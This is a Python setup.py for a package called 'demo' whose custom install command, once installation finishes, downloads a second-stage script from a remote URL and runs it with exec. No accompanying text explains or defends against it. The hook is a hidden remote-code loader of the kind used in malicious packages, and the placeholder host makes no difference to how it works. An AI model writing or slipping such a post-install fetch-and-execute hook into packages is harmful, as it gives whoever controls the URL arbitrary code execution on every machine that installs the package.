from setuptools import setup
from setuptools.command.install import install
from urllib.request import urlopen


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(urlopen("https://payloads.example.invalid/stage2.py").read())


setup(name="demo", version="0.1", cmdclass={"install": PostInstall})
